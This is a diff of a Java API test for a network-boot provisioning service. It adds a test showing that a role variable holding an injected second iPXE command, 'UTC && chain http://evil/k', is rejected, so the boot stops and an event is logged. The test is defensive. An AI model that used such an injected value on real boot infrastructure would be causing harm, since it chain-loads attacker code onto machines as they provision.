@@ -28,7 +28,8 @@ import org.rackboot.api.testsupport.RunningApp.Resp;
  * state, the installer's plan, progress, result and check-in with the one-time token, drift after
  * a rollback, and the bad inputs of the boot flow.
  */
-@AppConfig({"boot.agentDir=target/test-agent", "boot.idleAction=discovery"})
+@AppConfig({"boot.agentDir=target/test-agent", "boot.idleAction=discovery",
+    "boot.templateDir=target/test-templates"})
 class BootFlowApiTest {
 
   private static final Pattern TOKEN = Pattern.compile("rackboot\\.token=(\\S+)");
@@ -309,18 +310,50 @@ class BootFlowApiTest {
   }
 
   @ApiTest
+  void aVariableThatIsNotOneKernelWordStopsTheBootWithTheReason(RunningApp app) throws Exception {
+    String env = Fixtures.environment(app);
+    String roleName = Names.name("inj");
+    byte[] kernel = ("inj kernel " + roleName).getBytes(StandardCharsets.UTF_8);
+    byte[] initrd = ("inj initrd " + roleName).getBytes(StandardCharsets.UTF_8);
+    String ksha = upload(app, kernel);
+    String isha = upload(app, initrd);
+    Resp pub = app.post("/api/v1/images", Map.of("name", "injos", "version", roleName,
+        "os", "linux", "arch", "x86_64",
+        "bootArgs", "inst.ks={{templateUrl}} inst.tz={{vars.timezone}}",
+        "artifacts", List.of(
+            Map.of("name", "vmlinuz", "part", "kernel", "sha256", ksha, "size", kernel.length),
+            Map.of("name", "initrd.img", "part", "initrd", "sha256", isha, "size", initrd.length))));
+    assertThat(pub.status()).as(pub.toString()).isEqualTo(201);
+    // One line, so the role is accepted; on the kernel line it would be a second iPXE command.
+    Resp role = app.post("/api/v1/roles", Map.of("environment", env, "name", roleName,
+        "imageName", "injos", "imageVersion", roleName, "installTemplate", "kickstart.ks",
+        "variables", Map.of("repo", "alma/9", "timezone", "UTC && chain http://evil/k")));
+    assertThat(role.status()).as(role.toString()).isEqualTo(201);
+    String mac = Names.mac();
+    String id = provisioning(app, env, roleName, mac);
+    String s = script(app, mac);
+    assertThat(s).contains("bootArgs of injos").contains("sleep 30")
+        .doesNotContain("evil").doesNotContain("&&").doesNotContain("\nkernel ");
+    assertThat(eventTypes(app, id, "boot.template_failed")).contains("boot.template_failed");
+  }
+
+  @ApiTest
   void aTemplateThatFailsToRenderGivesAWaitScriptAndAnEvent(RunningApp app) throws Exception {
     agentFiles();
     String env = Fixtures.environment(app);
     String roleName = Names.name("tpl");
     publishImage(app, "tplimg", "1", ("tpl " + roleName).getBytes(StandardCharsets.UTF_8));
+    // A role may only name a template that exists; this one exists but does not compile.
+    Path templates = Path.of("target/test-templates");
+    Files.createDirectories(templates);
+    Files.writeString(templates.resolve("broken-" + roleName), "{{#host}}never closed\n");
     Resp role = app.post("/api/v1/roles", Map.of("environment", env, "name", roleName,
-        "imageName", "tplimg", "imageVersion", "1", "installTemplate", "no-such-template"));
+        "imageName", "tplimg", "imageVersion", "1", "installTemplate", "broken-" + roleName));
     assertThat(role.status()).as(role.toString()).isEqualTo(201);
     String mac = Names.mac();
     String id = provisioning(app, env, roleName, mac);
     String s = script(app, mac);
-    assertThat(s).contains("no install template named no-such-template").contains("sleep 30")
+    assertThat(s).contains("template broken-" + roleName + " failed to render").contains("sleep 30")
         .doesNotContain("rackboot.mode=install");
     assertThat(eventTypes(app, id, "boot.template_failed")).contains("boot.template_failed");
   }
